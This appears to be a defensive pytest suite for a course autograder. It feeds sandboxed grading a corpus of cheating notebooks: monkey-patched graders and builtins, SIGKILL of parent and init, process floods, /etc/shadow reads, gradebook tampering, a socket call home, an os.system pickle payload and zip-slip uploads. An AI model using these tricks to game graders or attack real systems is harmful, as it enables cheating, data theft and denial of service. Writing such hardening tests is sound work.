"""The threat model: cheating and broken submissions are graded as their honest content deserves.

A corpus of submissions of the probe lab (tests/probe/lab00_probe.py, graded by two of lab
2's real hidden tests, 3 points each) goes through the instructor's commands in one batch,
two at a time, with the sandbox that CI requires (XAI_SANDBOX=required in .ci/run). Each
submission tries one thing a student could do from inside the kernel or the graded function:
patch the grader, numpy, builtins or IPython; return lying objects; read the test's frames;
exit, kill, fork, hang, flood, exhaust memory; read or write files outside its folder (the
gradebook, other submissions, solutions/, labs/, the grader itself); reach the network;
edit, delete or duplicate test cells and their metadata; call the library the lab forbids.
Each must score what its honest answers deserve, and the batch, the gradebook, the other
students and the course files must come out intact. The collection step gets a zip that
points outside its folder, a duplicate upload, a misnamed file and a corrupted zip.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import grading
import nbformat
import pytest

from xaigrader import bench, build

pytestmark = pytest.mark.slow  # one module: `--dist loadscope` keeps it on one worker

ROOT = build.ROOT
LAB = "lab00_probe"
PROBE = ROOT / "tests" / "probe" / f"{LAB}.py"
FULL = {"pdp_1d_test": 3.0, "ice_test": 3.0}
ZERO = {"pdp_1d_test": 0.0, "ice_test": 0.0}
PDP_ZERO = {"pdp_1d_test": 0.0, "ice_test": 3.0}
SECRET = "SECRET-OF-THE-VICTIM-7f3a"
GUARDED = [ROOT / "grader" / "xaigrader" / "week02.py", ROOT / "grader" / "xaigrader" / "verdicts.py",
           ROOT / "xaikit" / "checks" / "week02.py"]

BLANK_PDP = '''
def partial_dependence_1d(model, X, feature, grid):
    raise NotImplementedError()
'''
BLANK_ICE = '''
def ice_curves(model, X, feature, grid, centered=False):
    raise NotImplementedError()
'''
BLANK = {"pdp_1d": BLANK_PDP, "ice": BLANK_ICE}


def pdp_with(body: str) -> str:
    """A correct PDP whose first lines are ``body`` (what the cheat does when it is called)."""
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    return f'''
def partial_dependence_1d(model, X, feature, grid):
{indented}
    X_mod = np.array(X, dtype=float, copy=True)
    out = np.empty(len(grid))
    for k, value in enumerate(grid):
        X_mod[:, feature] = value
        out[k] = model.predict(X_mod).mean()
    return out
'''


@dataclass
class Case:
    student: str
    what: str
    expected: dict[str, float]
    answers: dict[str, str] = field(default_factory=dict)  # answer cells replaced
    cells: list[tuple[str, str]] = field(default_factory=list)  # (insert after this cell id, code)
    edit: object = None  # a function nb -> None for metadata and cell surgery


def _drop_test_cell(nb):
    nb.cells = [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "pdp_1d_test"]


def _vandalise_test_cell(nb):
    cell = next(c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "pdp_1d_test")
    cell.source = "print('✓ all tests passed')"
    cell.metadata["nbgrader"]["points"] = 100
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✓ all tests passed\n")]


def _duplicate_test_cell(nb):
    index = next(i for i, c in enumerate(nb.cells)
                 if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "pdp_1d_test")
    copy = nbformat.from_dict(nb.cells[index])
    copy["id"] = "copy-of-the-test"
    nb.cells.insert(index + 1, copy)


def _rename_test_cell(nb):
    cell = next(c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "pdp_1d_test")
    cell.metadata["nbgrader"]["grade_id"] = "my_own_test"


def _prefill_outputs(nb):
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✓ passed\n")]
            cell.execution_count = 1


def corpus(course: Path, port: int) -> list[Case]:
    gradebook = course / "gradebook.db"
    paths = {"gradebook": str(gradebook), "course": str(course), "root": str(ROOT), "port": port}
    return [
        # --- patching the grader, the checks, numpy, builtins and IPython -------------------------
        Case("patch-sysmodules", "a fake xaigrader in sys.modules", ZERO, BLANK, [("cell-002", '''
import sys, types
fake = types.ModuleType("xaigrader")
fake.week02 = types.SimpleNamespace(partial_dependence_1d=lambda f: None, ice_curves=lambda f: None)
sys.modules["xaigrader"] = fake
sys.modules["xaigrader.week02"] = fake.week02
''')]),
        Case("patch-grader", "replaces the grader's functions", ZERO, BLANK, [("cell-002", '''
import xaigrader
xaigrader.week02 = type("W", (), {"partial_dependence_1d": staticmethod(lambda f: None),
                                  "ice_curves": staticmethod(lambda f: None)})
''')]),
        Case("patch-checks", "makes the visible checks pass", ZERO, BLANK, [("cell-002", '''
import xaikit.checks.week02 as visible
visible.partial_dependence_1d = lambda f: print("✓ matches sklearn")
visible.ice_curves = lambda f: print("✓ matches sklearn")
check = visible
''')]),
        Case("patch-numpy", "numpy comparisons that always agree, in the kernel and in the function", PDP_ZERO,
             {"pdp_1d": '''
def partial_dependence_1d(model, X, feature, grid):
    np.allclose = lambda *a, **k: True
    np.array_equal = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
    return np.zeros(len(grid))
'''}, [("cell-002", "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)")]),
        Case("patch-builtins", "isinstance and callable that lie", ZERO, BLANK, [("cell-002", '''
import builtins
builtins.isinstance = lambda *a: True
builtins.callable = lambda *a: True
''')]),
        Case("input-transformer", "strips the hidden lines from every cell", ZERO, BLANK, [("cell-002", '''
get_ipython().input_transformers_post.append(
    lambda lines: [l for l in lines if "xaigrader" not in l and "week02" not in l])
''')]),
        Case("ast-transformer", "wraps every cell in try/except", ZERO, BLANK, [("cell-002", '''
import ast
class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Swallow())
''')]),
        Case("hide-errors", "no traceback is ever shown", ZERO, BLANK, [("cell-002", '''
import sys
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
sys.excepthook = lambda *a: None
''')]),
        Case("fake-pass", "prints a pass line and pre-filled outputs", ZERO, BLANK,
             [("pdp_1d_test", "print('✓ partial_dependence_1d matches sklearn')")], _prefill_outputs),
        # --- lying results and peeking at the test ---------------------------------------------
        Case("lying-eq", "returns an object equal to everything", PDP_ZERO, {"pdp_1d": '''
class Anything:
    def __eq__(self, other): return True
    def __array__(self, *a, **k): raise TypeError("no")
    def __len__(self): return 11
def partial_dependence_1d(model, X, feature, grid):
    return Anything()
'''}),
        Case("lying-array", "an ndarray subclass that compares equal", PDP_ZERO, {"pdp_1d": '''
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __sub__(self, other): return np.zeros(np.shape(other))
    __rsub__ = __sub__
def partial_dependence_1d(model, X, feature, grid):
    return np.zeros(len(grid)).view(Liar)
'''}),
        Case("frame-reader", "looks for the reference in the caller's frames", PDP_ZERO, {"pdp_1d": '''
import sys
def partial_dependence_1d(model, X, feature, grid):
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in frame.f_locals.items():
            if name in ("ref", "expected", "reference") :
                value = value["average"][0] if isinstance(value, dict) else value
                return np.asarray(value, dtype=float)
        frame = frame.f_back
    return np.zeros(len(grid))
'''}),
        Case("gc-scan", "looks for the reference among all live objects", PDP_ZERO, {"pdp_1d": '''
import gc
def partial_dependence_1d(model, X, feature, grid):
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "average" in obj and "grid_values" in obj:
            return np.asarray(obj["average"][0], dtype=float)
    return np.asarray(grid, dtype=float)
'''}),
        # --- processes, time, memory, output ----------------------------------------------------
        Case("exit-while-graded", "exits the process when called by the hidden test", PDP_ZERO, {"pdp_1d": pdp_with('''
import os
if "XAI_HANDIN_DIR" not in os.environ:
    os._exit(0)
''')}),
        Case("kill-kernel", "kills its own kernel at the end", FULL, {}, [("ice_test", "import os; os.kill(os.getpid(), 9)")]),
        Case("kill-everything", "signals its parent and every process it can see", FULL, {}, [("ice_test", '''
import os, signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as exc:
        print(exc)
''')]),
        Case("fork-bomb", "starts processes until it cannot", FULL, {}, [("ice_test", '''
import subprocess
children = []
try:
    for _ in range(3000):
        children.append(subprocess.Popen(["sleep", "4321.5"]))
except OSError as exc:
    print("stopped after", len(children), type(exc).__name__)
''')]),
        Case("detached-child", "leaves a detached process behind", FULL, {}, [("ice_test", '''
import subprocess
subprocess.Popen(["sleep", "1234.5"], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''')]),
        Case("memory-hog", "allocates 8 GB", FULL, {}, [("cell-002", '''
try:
    hog = bytearray(8 * 1024**3)
except MemoryError:
    print("no 8 GB here")
''')]),
        # endless-cell waits instead of spinning: the same limit and interrupt, without a core burnt
        # for a minute of the suite (endless-function spins, in the kernel and in the worker).
        Case("endless-cell", "a cell that never ends", FULL, {},
             [("ice_test", "import time\nwhile True:\n    time.sleep(0.5)")]),
        Case("endless-function", "an answer that never returns", PDP_ZERO, {"pdp_1d": pdp_with("while True:\n    pass")}),
        Case("output-flood", "prints 50 MB", FULL, {}, [("ice_test", "import sys\nfor _ in range(50):\n    sys.stdout.write('x' * 1024**2)")]),
        # --- files and network ---------------------------------------------------------------------
        Case("read-others", "looks for other students' submissions", FULL, {}, [("ice_test", '''
import glob
secret = "{half}" + "{rest}"
for pattern in ("{course}/submitted/*/*/*.ipynb", "{course}/autograded/*/*/*.ipynb", "/tmp/**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True):
        text = open(path).read()
        if secret in text:
            print("FOUND", text[text.index(secret):][:80])
'''.format(half=SECRET[:10], rest=SECRET[10:], **paths))]),
        Case("write-gradebook", "edits, then deletes the gradebook", ZERO, BLANK, [("cell-002", '''
import os, sqlite3
for action in ("extra", "delete"):
    try:
        if action == "extra":
            db = sqlite3.connect("{gradebook}")
            db.execute("UPDATE grade SET extra_credit = 10, manual_score = 0")
            db.commit()
        else:
            os.remove("{gradebook}")
    except Exception as exc:
        print(action, type(exc).__name__)
'''.format(**paths))]),
        Case("nbgrader-api", "grants itself extra credit with nbgrader's API", ZERO, BLANK, [("cell-002", '''
try:
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///{gradebook}") as gb:
        for grade in gb.db.query(__import__("nbgrader.api").api.Grade):
            grade.extra_credit = 10
        gb.db.commit()
except Exception as exc:
    print(type(exc).__name__)
'''.format(**paths))]),
        Case("modify-course", "rewrites solutions/, labs/, the grader and the helper", ZERO, BLANK, [("cell-002", '''
targets = ["{course}/solutions/lab00_probe/lab00_probe.py", "{course}/labs/lab00_probe/lab00_probe.ipynb",
           "{root}/grader/xaigrader/week02.py", "{root}/grader/xaigrader/verdicts.py",
           "{root}/xaikit/checks/week02.py", "{root}/PWNED"]
for path in targets:
    try:
        with open(path, "w") as fh:
            fh.write("pwned")
    except OSError as exc:
        print(path, type(exc).__name__)
'''.format(**paths))]),
        Case("read-grader", "prints the grader's source and system secrets", FULL, {}, [("ice_test", '''
for path in ["{root}/grader/xaigrader/week02.py", "/etc/shadow", "/root/.bashrc"]:
    try:
        print(open(path).read()[:2000])
    except OSError as exc:
        print(type(exc).__name__)
'''.format(**paths))]),
        Case("network", "calls home from the kernel and from the graded function", FULL,
             {"pdp_1d": pdp_with('''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"from the function")
except OSError:
    pass
'''.format(**paths))}, [("cell-002", '''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"from the kernel")
except OSError as exc:
    print(type(exc).__name__)
'''.format(**paths))]),
        Case("evil-handin", "replaces its hand-in with a pickle that runs a command", PDP_ZERO, {}, [("pdp_1d_test", '''
import os, pickle
class Evil:
    def __reduce__(self):
        return (os.system, ("echo pwned > {root}/PWNED; echo pwned > /tmp/pwned",))
folder = os.environ.get("XAI_HANDIN_DIR", ".")
with open(os.path.join(folder, "week02.partial_dependence_1d.pkl"), "wb") as fh:
    pickle.dump(Evil(), fh)
'''.format(**paths))]),
        # --- the library the lab forbids ----------------------------------------------------------
        Case("forbidden-import", "calls sklearn.inspection instead of implementing", PDP_ZERO, {"pdp_1d": '''
from sklearn.inspection import partial_dependence as sk_pd
def partial_dependence_1d(model, X, feature, grid):
    out = sk_pd(model, X, [feature], custom_values={feature: grid}, kind="average", method="brute")
    return out["average"][0]
'''}),
        Case("forbidden-file", "loads sklearn.inspection's file directly", PDP_ZERO, {"pdp_1d": '''
import importlib.util, os, sklearn
def partial_dependence_1d(model, X, feature, grid):
    path = os.path.join(os.path.dirname(sklearn.__file__), "inspection", "_partial_dependence.py")
    spec = importlib.util.spec_from_file_location("sklearn.inspection._partial_dependence", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    out = module.partial_dependence(model, X, [feature], custom_values={feature: grid}, kind="average",
                                    method="brute")
    return out["average"][0]
'''}),
        # --- edited, deleted and duplicated test cells --------------------------------------------
        Case("delete-test-cell", "deletes a test cell (honest answers)", FULL, {}, [], _drop_test_cell),
        Case("edit-test-cell", "rewrites a test cell and its points", FULL, {}, [], _vandalise_test_cell),
        Case("duplicate-test-cell", "duplicates a test cell", FULL, {}, [], _duplicate_test_cell),
        Case("rename-test-cell", "renames a test cell's grade id", FULL, {}, [], _rename_test_cell),
    ]


# --- the batch -------------------------------------------------------------------------------

class Listener:
    """A TCP server on loopback that records every connection (none may arrive)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(1024))
                except OSError:
                    self.received.append(b"(connected)")


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else "missing"


def _leftovers() -> list[str]:
    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if "1234.5" in line or "4321.5" in line]


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    from xaigrader.sandbox import Sandbox

    if not Sandbox().isolated:  # XAI_SANDBOX=required (CI) makes this an error instead
        pytest.skip("the cheating corpus needs the bubblewrap sandbox (apt-get install bubblewrap)")
    course = tmp_path_factory.mktemp("cheating")
    listener = Listener()
    solution, blank = grading.release(LAB, course, source=PROBE)
    cases = corpus(course, listener.port)
    # The honest, correct student is the victim: a secret in its notebook must reach no one else.
    victim = grading.with_cells_replaced(solution, {})
    victim.cells[2].source += f"\n# {SECRET}"
    submissions = {"victim": victim, "blank": blank, "corrupt": grading.CORRUPT}
    for case in cases:
        nb = grading.with_cells_replaced(solution, case.answers)
        for after, code in reversed(case.cells):
            index = next(i for i, c in enumerate(nb.cells) if c.get("id") == after)
            nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code.strip()))
        if case.edit:
            case.edit(nb)
        submissions[case.student] = nb
    archive = grading.download(course, LAB, submissions, zipped=("blank",))
    # Collection: a zip reaching outside its folder, two different uploads, a misnamed file, a broken zip.
    with zipfile.ZipFile(archive / "zipslip.zip", "w") as zf:
        zf.writestr(f"../../zipslip_{LAB}.ipynb", nbformat.writes(solution))
    (archive / f"twice_{LAB}.ipynb").write_text(nbformat.writes(solution))
    with zipfile.ZipFile(archive / "twice-again.zip", "w") as zf:
        zf.writestr(f"twice_{LAB}.ipynb", nbformat.writes(blank))
    (archive / f"{LAB} (1).ipynb").write_text(nbformat.writes(solution))
    (archive / "broken.zip").write_bytes(b"PK\x03\x04 this is not a zip")

    # Time budgets measured on the probe's solution, as `make bench` does for the labs.
    measured = bench.measure(course / "solutions" / LAB / f"{LAB}.ipynb", course / "solutions" / LAB)
    budgets = course / "budgets.json"
    budgets.write_text(json.dumps({LAB: {"total": measured["seconds"], "cells": measured["cells"]}}))
    env = {**os.environ, "XAI_BUDGETS": str(budgets)}

    before = {path: _digest(path) for path in GUARDED}
    collect = subprocess.run([sys.executable, "-m", "xaigrader.cli", "--root", str(course), "collect", LAB],
                             capture_output=True, text=True, env=env)
    start = time.monotonic()
    grade = subprocess.run([sys.executable, "-m", "xaigrader.cli", "--root", str(course), "autograde", LAB,
                            "--jobs", "2"], capture_output=True, text=True, env=env)
    seconds = time.monotonic() - start
    feedback = subprocess.run([sys.executable, "-m", "xaigrader.cli", "--root", str(course), "feedback", LAB],
                              capture_output=True, text=True, env=env)
    grading.cli(course, "export", "--to", str(course / "grades.csv"))
    with open(course / "grades.csv") as fh:
        exported = {row["student_id"]: float(row["score"]) for row in csv.DictReader(fh)}
    scores, _ = grading.read_scores(course, LAB)
    return {"course": course, "cases": cases, "collect": collect, "grade": grade, "seconds": seconds,
            "feedback": feedback, "scores": scores, "exported": exported, "listener": listener, "before": before,
            "after": {path: _digest(path) for path in GUARDED}}


CASES = [c.student for c in corpus(Path("/course"), 0)]


def test_corpus_is_large_enough():
    assert len(CASES) >= 30 and len(set(CASES)) == len(CASES)


def test_batch_completes(batch):
    assert batch["grade"].returncode == 0, batch["grade"].stdout[-3000:] + batch["grade"].stderr[-3000:]


def test_corrupted_upload_is_reported_scored_zero_and_the_batch_goes_on(batch):
    assert "BROKEN SUBMISSION" in next(line for line in batch["grade"].stdout.splitlines() if line.startswith("corrupt"))
    assert batch["exported"]["corrupt"] == 0
    # Everyone else is graded and exported as the gradebook has it (no extra credit from any submission).
    assert {s: batch["exported"][s] for s in batch["scores"]} == {s: sum(v.values()) for s, v in batch["scores"].items()}
    assert set(batch["exported"]) == set(batch["scores"]) | {"corrupt"}


@pytest.mark.parametrize("student", CASES)
def test_scored_as_its_honest_content_deserves(batch, student):
    case = next(c for c in batch["cases"] if c.student == student)
    assert batch["scores"].get(student) == case.expected, f"{student} ({case.what}): {batch['scores'].get(student)}"


def test_honest_students_are_graded_normally(batch):
    assert batch["scores"]["victim"] == FULL
    assert batch["scores"]["blank"] == ZERO


def test_gradebook_untouched_by_submissions(batch):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{batch['course'] / 'gradebook.db'}") as gb:
        grades = [g for s in gb.find_assignment(LAB).submissions for nb in s.notebooks for g in nb.grades]
        assert grades and all(g.extra_credit in (None, 0) for g in grades)
        assert all(g.manual_score is None for g in grades)
        assert all(g.auto_score is None or g.auto_score <= g.max_score for g in grades)
    assert "GRADEBOOK:" not in batch["grade"].stdout


def test_course_and_grader_files_unchanged(batch):
    assert batch["after"] == batch["before"]
    assert not (ROOT / "PWNED").exists() and not Path("/tmp/pwned").exists()
    source = (batch["course"] / "solutions" / LAB / f"{LAB}.py").read_text()
    assert source == PROBE.read_text()


def test_nothing_reached_the_network(batch):
    assert batch["listener"].received == []


def test_no_process_outlives_grading(batch):
    assert _leftovers() == []


def test_no_secret_of_another_student_in_any_feedback(batch):
    for html in (batch["course"] / "feedback").glob(f"*/{LAB}/*.html"):
        if html.parent.parent.name != "victim":
            assert SECRET not in html.read_text(), html


def test_grader_source_never_reaches_feedback(batch):
    for html in (batch["course"] / "feedback").glob(f"*/{LAB}/*.html"):
        text = html.read_text()
        assert "def partial_dependence_1d(func)" not in text and "REFERENCE_PD" not in text, html


def test_endless_answer_costs_seconds_and_one_sentence(batch):
    nb = nbformat.read(batch["course"] / "autograded" / "endless-function" / LAB / f"{LAB}.ipynb", 4)
    cell = next(c for c in nb.cells if c.get("id") == "pdp_1d_test")
    lines = [line for o in cell.outputs for line in o.get("traceback", []) if line.strip()]
    assert len(lines) == 1 and "did not finish within" in lines[0], lines
    html = (batch["course"] / "feedback" / "endless-function" / LAB / f"{LAB}.html").read_text()
    assert "xaigrader" not in html and "HIDDEN TESTS" not in html


def test_a_kernel_that_stops_answering_is_stopped_not_waited_for(batch):
    """patch-builtins breaks the kernel's own machinery: after the first cell over its time limit
    the kernel is stopped and the later cells are reported as not run (instead of each waiting
    out its own limit until the notebook's total budget is used up)."""
    nb = nbformat.read(batch["course"] / "autograded" / "patch-builtins" / LAB / f"{LAB}.ipynb", 4)
    errors = [o.get("evalue", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs
              if o.output_type == "error"]
    assert any("stopped answering while running this cell" in e for e in errors), errors
    assert not any("total time budget" in e for e in errors), errors


def test_forbidden_library_is_named(batch):
    nb = nbformat.read(batch["course"] / "autograded" / "forbidden-import" / LAB / f"{LAB}.ipynb", 4)
    cell = next(c for c in nb.cells if c.get("id") == "pdp_1d_test")
    assert "sklearn.inspection" in "".join(line for o in cell.outputs for line in o.get("traceback", []))


def test_collection_skips_bad_uploads_and_collects_everyone_else(batch):
    out = batch["collect"].stdout
    for name, reason in [("zipslip.zip", "unsafe member"), (f"twice_{LAB}.ipynb", "different uploads"),
                         (f"{LAB} (1).ipynb", "not named"), ("broken.zip", "not a readable zip")]:
        assert any(name in line and reason in line for line in out.splitlines() if line.startswith("NOT COLLECTED")), \
            f"{name}: {out[-2000:]}"
    submitted = {p.name for p in (batch["course"] / "submitted").iterdir()}
    assert "twice" not in submitted and "zipslip" not in submitted
    assert {"victim", *CASES} <= submitted
    assert not list(batch["course"].parent.glob(f"zipslip_{LAB}.ipynb"))
